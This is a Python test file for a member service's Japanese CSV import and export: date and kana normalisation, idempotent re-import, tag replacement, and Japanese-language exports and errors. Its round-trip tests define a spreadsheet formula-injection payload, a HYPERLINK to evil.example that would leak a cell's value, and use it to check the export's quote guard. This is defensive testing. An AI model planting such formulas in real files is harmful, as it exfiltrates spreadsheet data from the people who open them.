"""test_csv_japanese.py - Japanese-first CSV (issue 13): what Excel and people really write
(dates in the Western and Japanese calendars, half-width kana and hiragana readings,
full-width digits and hyphens, 〒, prefectures without 都/府/県) accepted by the import and the
API alike; an unchanged export imported again is a no-op; the formula guard added by the export
and removed by the import; the file's tags replace a member's; exports in Japanese words and
times in Japan."""

import datetime
import json
import re
import time
import uuid

from harness import unique_email
from test_csv_import import (EXPORT, JA_HEADER, excel_csv, ja_row, member_id, member_row,
                             member_tags, post_csv, read_export, report_of)

JST = datetime.timezone(datetime.timedelta(hours=9))
STORED = ["name_kana", "phone", "birthday", "postal_code", "prefecture"]


def tag():
    return "jp" + uuid.uuid4().hex[:10]


def count(suite, table, where):
    return int(suite.sql("select count(*) from %s where %s" % (table, where))[0][0])


def traces(suite, ids):
    """What a write of these members leaves: their versions and update times, their events,
    their audit entries, and the imports recorded."""
    quoted = ", ".join("'%s'" % i for i in ids)
    return {
        "rows": suite.sql("select id, version, updated_at from member.members where id in (%s) "
                          "order by id" % quoted),
        "events": count(suite, "member.outbox", "aggregate_id in (%s)" % quoted),
        "audit": count(suite, "member.audit_log", "target_id in (%s)" % quoted),
        "imports": count(suite, "member.audit_log", "action = 'member.imported'"),
    }


# ------------------------------------------------------------------ Excel's real input

def test_excel_forms_are_imported_in_their_normal_form(suite, client):
    """A Shift_JIS file with each form the issue names: every row is kept, in one form."""
    emails = [unique_email("xl") for _ in range(7)]
    rows = [JA_HEADER,
            ja_row(emails[0], name_kana="ﾀｶﾊｼ ﾀﾛｳ", phone="０９０－１２３４－５６７８",
                   birthday="1990/1/2", postal_code="〒150-0002", prefecture="東京"),
            ja_row(emails[1], name_kana="たかはし はなこ", phone="090ー1234ー5678",
                   birthday="1990年1月2日", postal_code="〒１５０－０００２", prefecture="大阪"),
            ja_row(emails[2], name_kana="ｶﾞｯｺｳ", phone="03-1234-5678", birthday="平成2年1月2日",
                   postal_code="1500002", prefecture="神奈川"),
            ja_row(emails[3], birthday="H2.1.2", prefecture="京都"),
            ja_row(emails[4], birthday="令和元年5月1日", prefecture="北海道"),
            ja_row(emails[5], birthday="昭和64年1月7日"),
            ja_row(emails[6], birthday="１９９０／１２／３１")]
    data = excel_csv(rows)                         # cp932, as Excel's 「CSV (コンマ区切り)」
    body = report_of(post_csv(client, data))
    assert (body["charset"], body["created"], body["rejected"], body["errors"]) == \
        ("cp932", 7, 0, []), body
    got = [member_row(suite, e, STORED) for e in emails]
    assert got[0] == {"name_kana": "タカハシ タロウ", "phone": "090-1234-5678",
                      "birthday": "1990-01-02", "postal_code": "150-0002", "prefecture": "東京都"}
    assert got[1] == {"name_kana": "タカハシ ハナコ", "phone": "090-1234-5678",
                      "birthday": "1990-01-02", "postal_code": "150-0002", "prefecture": "大阪府"}
    assert got[2] == {"name_kana": "ガッコウ", "phone": "03-1234-5678", "birthday": "1990-01-02",
                      "postal_code": "150-0002", "prefecture": "神奈川県"}
    assert (got[3]["birthday"], got[3]["prefecture"]) == ("1990-01-02", "京都府")
    assert (got[4]["birthday"], got[4]["prefecture"]) == ("2019-05-01", "北海道")
    assert got[5]["birthday"] == "1989-01-07"
    assert got[6]["birthday"] == "1990-12-31"


def test_ambiguous_and_impossible_dates_are_rejected_with_what_to_type(suite, client):
    good, short, era, kana = (unique_email("xlbad") for _ in range(4))
    data = excel_csv([JA_HEADER,
                      ja_row(good, birthday="平成元年1月8日"),
                      ja_row(short, birthday="90/1/2"),            # 1990 or 平成2?
                      ja_row(era, birthday="昭和64年1月8日"),        # Heisei began that day
                      ja_row(kana, name_kana="高橋")])
    body = report_of(post_csv(client, data, mode="partial"))
    assert (body["created"], body["rejected"]) == (1, 3), body
    reasons = {(e["row"], e["column"]): e["reason"] for e in body["errors"]}
    assert reasons == {
        (3, "生年月日"): "must be a date such as 1990-01-02, 1990/1/2, 1990年1月2日 or 平成2年1月2日",
        (4, "生年月日"): "names a day its era did not reach: write it as 1990/1/2",
        (5, "フリガナ"): "must be written in katakana (or hiragana)"}
    assert member_row(suite, good, ["birthday"]) == {"birthday": "1989-01-08"}


def test_the_api_accepts_what_the_import_accepts(suite, client):
    m = client.create_member(name_kana="ﾔﾏﾀﾞ", phone="０９０－１２３４－５６７８", birthday="H2.1.2",
                             postal_code="〒150-0002", prefecture="大阪")
    assert {k: m[k] for k in STORED} == {
        "name_kana": "ヤマダ", "phone": "090-1234-5678", "birthday": "1990-01-02",
        "postal_code": "150-0002", "prefecture": "大阪府"}
    r = client.patch("/v1/members/" + m["id"], {"name_kana": "やまだ", "birthday": "令和2年2月29日",
                                               "prefecture": "東京", "phone": "03ー1234ー5678"})
    assert r.status_code == 200, r.text
    assert {k: r.json()[k] for k in ("name_kana", "birthday", "prefecture", "phone")} == {
        "name_kana": "ヤマダ", "birthday": "2020-02-29", "prefecture": "東京都", "phone": "03-1234-5678"}
    r = client.post("/v1/members", {"email": unique_email(), "birthday": "90/1/2"})
    assert r.status_code == 400, r.text
    assert r.json()["errors"] == [{"field": "birthday", "code": "invalid_date", "reason":
                                   "must be a date such as 1990-01-02, 1990/1/2, 1990年1月2日 or 平成2年1月2日"}]


# ------------------------------------------------------------------ the round trip

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def imported_members(suite, client, t):
    """Three members made by an import, with cells the export guards and a tag each."""
    emails = [unique_email("rt") for _ in range(3)]
    data = excel_csv([JA_HEADER,
                      ja_row(emails[0], name="往復 一", name_kana="オウフク", note=FORMULA,
                             phone="+81-90-1234-5678", address="-1+2", tags=t + ";a" + t,
                             birthday="1990/1/2", opt_in="はい", rank="premium"),
                      ja_row(emails[1], name="@SUM(1+1)", note="'quoted' by hand", tags=t,
                             opt_in="いいえ"),
                      ja_row(emails[2], name="往復 三", tags=t)])
    assert report_of(post_csv(client, data))["created"] == 3
    return [member_id(suite, e) for e in emails]


def test_an_unchanged_export_imported_again_changes_nothing(suite, client):
    t = tag()
    ids = imported_members(suite, client, t)
    before = traces(suite, ids)
    time.sleep(0.01)
    for headers in ("ja", "en"):
        exported = client.get(EXPORT, params={"tag": t, "headers": headers}).content
        body = report_of(post_csv(client, exported))
        assert (body["rows"], body["created"], body["updated"], body["unchanged"], body["rejected"],
                body["applied"]) == (3, 0, 0, 3, 0, True), body
        assert traces(suite, ids) == before          # no version, updated_at, event or audit
        # a dry run says the same
        body = report_of(post_csv(client, exported, dry_run="true"))
        assert (body["updated"], body["unchanged"]) == (0, 3), body


def test_the_guard_the_export_adds_is_removed_by_the_import(suite, client):
    t = tag()
    ids = imported_members(suite, client, t)
    raw = client.get(EXPORT, params={"tag": t}).content.decode("utf-8-sig")
    first = next(line for line in raw.split("\r\n") if ids[0] in line)
    assert ',"\'-1+2",' in first and ',"\'+81-90-1234-5678",' in first, first
    assert ',"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",' in first, first
    header, rows = read_export(client.get(EXPORT, params={"tag": t}))
    # edited in Excel: one name changed, the rest as exported
    for row in rows:
        if row["会員ID"] == ids[0]:
            row["氏名"] = "往復 改"
    data = excel_csv([header] + [[row[h] for h in header] for row in rows], encoding="utf-8", bom=True)
    body = report_of(post_csv(client, data))
    assert (body["updated"], body["unchanged"]) == (1, 2), body
    m = client.get("/v1/members/" + ids[0]).json()
    assert (m["name"], m["note"], m["phone"], m["address"]) == \
        ("往復 改", FORMULA, "+81-90-1234-5678", "-1+2")
    second = client.get("/v1/members/" + ids[1]).json()
    assert (second["name"], second["note"]) == ("@SUM(1+1)", "'quoted' by hand")   # the user's ' stays
    # only the change was written: one member.updated for the first member, nothing else
    assert suite.sql("select type from member.outbox where aggregate_id::text = '%s' "
                     "order by id desc limit 1" % ids[0]) == [["member.updated"]]


def test_the_files_tags_replace_the_members_unless_asked_to_add(suite, client):
    t = tag()
    email = unique_email("tags")
    data = excel_csv([JA_HEADER, ja_row(email, tags="%s;a%s;b%s" % (t, t, t))])
    assert report_of(post_csv(client, data))["created"] == 1
    mid = member_id(suite, email)
    events = count(suite, "member.outbox", "aggregate_id = '%s'" % mid)
    # a tag removed in Excel, another added
    data = excel_csv([JA_HEADER, ja_row(email, tags="%s;c%s" % (t, t))])
    body = report_of(post_csv(client, data))
    assert (body["updated"], body["unchanged"]) == (1, 0), body
    assert member_tags(suite, email) == sorted([t, "c" + t])
    assert sorted(r[0] for r in suite.sql(
        "select type from member.outbox where aggregate_id = '%s' order by id offset %d"
        % (mid, events))) == ["member.tagged", "member.untagged", "member.untagged"]
    # tags_mode=add only adds
    data = excel_csv([JA_HEADER, ja_row(email, tags="d" + t)])
    assert report_of(post_csv(client, data, tags_mode="add"))["updated"] == 1
    assert member_tags(suite, email) == sorted([t, "c" + t, "d" + t])
    # the same tags in another order, or twice: nothing to do
    data = excel_csv([JA_HEADER, ja_row(email, tags="d%s、c%s;%s;%s" % (t, t, t, t))])
    body = report_of(post_csv(client, data))
    assert (body["updated"], body["unchanged"]) == (0, 1), body
    # a file without a tags column leaves them
    data = excel_csv([["メールアドレス", "氏名"], [email, "タグ列なし"]])
    assert report_of(post_csv(client, data))["updated"] == 1
    assert member_tags(suite, email) == sorted([t, "c" + t, "d" + t])
    r = post_csv(client, data, tags_mode="merge")
    assert r.status_code == 400 and r.json()["errors"][0]["field"] == "tags_mode", r.text


# ------------------------------------------------------------------ exports in Japanese

def test_export_in_japanese_words_and_japan_time(suite, client):
    t = tag()
    free = client.create_member(marketing_consent={"email_opt_in": True, "method": "api"})
    gone = client.create_member(marketing_consent={"email_opt_in": False, "method": "api"})
    paid = client.create_member()
    for m in (free, gone, paid):
        assert client.post("/v1/members/%s/tags" % m["id"], {"add": [t]}).status_code == 200
    assert client.post("/v1/members/%s/withdraw" % gone["id"], {}).status_code == 200
    assert client.patch("/v1/members/" + paid["id"], {"status": "paid"}).status_code == 200
    day_before = datetime.datetime.now(JST).strftime("%Y%m%d")
    r = client.get(EXPORT, params={"tag": t})
    day_after = datetime.datetime.now(JST).strftime("%Y%m%d")
    header, rows = read_export(r)
    by_id = {row["会員ID"]: row for row in rows}
    assert (by_id[free["id"]]["状態"], by_id[free["id"]]["メール配信"]) == ("無料会員", "はい")
    assert (by_id[gone["id"]]["状態"], by_id[gone["id"]]["メール配信"]) == ("退会済み", "いいえ")
    assert (by_id[paid["id"]]["状態"], by_id[paid["id"]]["メール配信"]) == ("有料会員", "")
    day = re.fullmatch(r'attachment; filename="members-(\d{8})\.csv"',
                       r.headers["Content-Disposition"]).group(1)
    assert day in (day_before, day_after)
    # times in Japan: the same instants as the API's, written +09:00
    for mid, row in by_id.items():
        m = client.get("/v1/members/" + mid).json()
        for column, key in (("登録日時", "created_at"), ("更新日時", "updated_at"), ("退会日時", "withdrawn_at")):
            if m.get(key) is None:
                assert row[column] == "", (column, row)
                continue
            assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}\+09:00", row[column]), row[column]
            api = datetime.datetime.fromisoformat(m[key].replace("Z", "+00:00"))
            assert datetime.datetime.fromisoformat(row[column]) == api, (column, row[column], m[key])
    # English headers keep the machine words
    rows = read_export(client.get(EXPORT, params={"tag": t, "headers": "en"}))[1]
    by_id = {row["id"]: row for row in rows}
    assert (by_id[gone["id"]]["status"], by_id[gone["id"]]["email_opt_in"]) == ("withdrawn", "no")
    assert (by_id[free["id"]]["status"], by_id[free["id"]]["email_opt_in"]) == ("free", "yes")
    assert by_id[free["id"]]["created_at"].endswith("+09:00")


# ------------------------------------------------------------------ problems in Japanese

JA = {"Accept-Language": "ja,en-US;q=0.9,en;q=0.8"}


def test_problems_in_japanese_when_asked_with_the_same_machine_parts(suite, client):
    body = {"email": "not-an-email", "phone": "12", "birthday": "90/1/2"}
    english = client.post("/v1/members", body)
    japanese = client.post("/v1/members", body, headers=JA)
    assert english.status_code == japanese.status_code == 400
    e, j = english.json(), japanese.json()
    assert (e["type"], e["status"]) == (j["type"], j["status"]) == ("/problems/invalid-request", 400)
    assert (e["title"], e["detail"]) == ("The request is not valid", "the request has invalid fields")
    assert (j["title"], j["detail"]) == ("リクエストが正しくありません", "リクエストに不正な項目があります")
    assert [x["field"] for x in e["errors"]] == [x["field"] for x in j["errors"]] == \
        ["email", "phone", "birthday"]
    assert e["code"] == j["code"] == "invalid_fields"                 # codes: the same in both
    assert [x["code"] for x in e["errors"]] == [x["code"] for x in j["errors"]] == \
        ["invalid_email", "invalid_phone", "invalid_date"]
    assert [x["reason"] for x in j["errors"]] == [
        "正しいメールアドレスを入力してください", "10〜15 桁の電話番号を入力してください",
        "日付を 1990-01-02、1990/1/2、1990年1月2日 または 平成2年1月2日 のように入力してください"]
    # the runtime's reading by the declared rules and the codec
    r = client.post("/v1/members", {"email": unique_email(), "bogus": 1}, headers=JA)
    assert r.json()["errors"] == [{"field": "bogus", "code": "unknown_field",
                                   "reason": "このリクエストの項目ではありません"}], r.text
    r = client.request("POST", "/v1/members/import", data=b"x", params={"tags_mode": "merge"},
                       headers=dict(JA, **{"Content-Type": "text/csv"}))
    assert r.status_code == 400 and r.json()["errors"] == [
        {"field": "tags_mode", "code": "not_one_of", "reason": "replace or add のいずれかを指定してください"}], r.text
    # the gateway's own problems, and a service's message
    r = client.get("/v1/members/" + str(uuid.uuid4()), headers=JA)
    assert r.status_code == 404 and (r.json()["title"], r.json()["detail"]) == ("見つかりません", "会員が見つかりません")
    assert r.json()["code"] == "member_not_found", r.text
    r = client.get("/v1/members/" + str(uuid.uuid4()), headers={"Accept-Language": "en-US,ja;q=0.5"})
    assert (r.json()["title"], r.json()["detail"], r.json()["code"]) == ("Not found", "no such member", "member_not_found")
    r = client.request("GET", "/v1/members", auth=False, headers=JA)
    assert r.status_code == 401 and r.json()["title"] == "認証が必要です", r.text


def test_import_reasons_in_japanese_under_the_files_own_headers(suite, client):
    good, bad = unique_email("jarow"), unique_email("jarow")
    data = excel_csv([JA_HEADER, ja_row(good), ja_row(bad, postal_code="12-34567", opt_in="たぶん")])
    r = client.request("POST", "/v1/members/import", data=data, params={},
                       headers=dict(JA, **{"Content-Type": "text/csv"}))
    body = report_of(r, status=422)
    assert (body["type"], body["title"]) == ("/problems/import-refused", "インポートは取り消されました")
    assert body["detail"].startswith("エラーのある行があったため"), body
    assert sorted((e["row"], e["column"], e["code"], e["reason"]) for e in body["errors"]) == [
        (3, "メール配信", "not_yes_or_no", "はい/いいえ(または 1/0)で入力してください"),
        (3, "郵便番号", "invalid_postal_code", "7 桁の郵便番号を入力してください(例: 123-4567)")]
    # the same file without Accept-Language: English reasons, the same rows and columns
    body = report_of(post_csv(client, data), status=422)
    assert sorted((e["row"], e["column"], e["code"], e["reason"]) for e in body["errors"]) == [
        (3, "メール配信", "not_yes_or_no", "must be yes or no (はい/いいえ, 1/0)"),
        (3, "郵便番号", "invalid_postal_code", "must be a postal code of 7 digits: 123-4567")]
    assert body["title"] == "The import was refused"
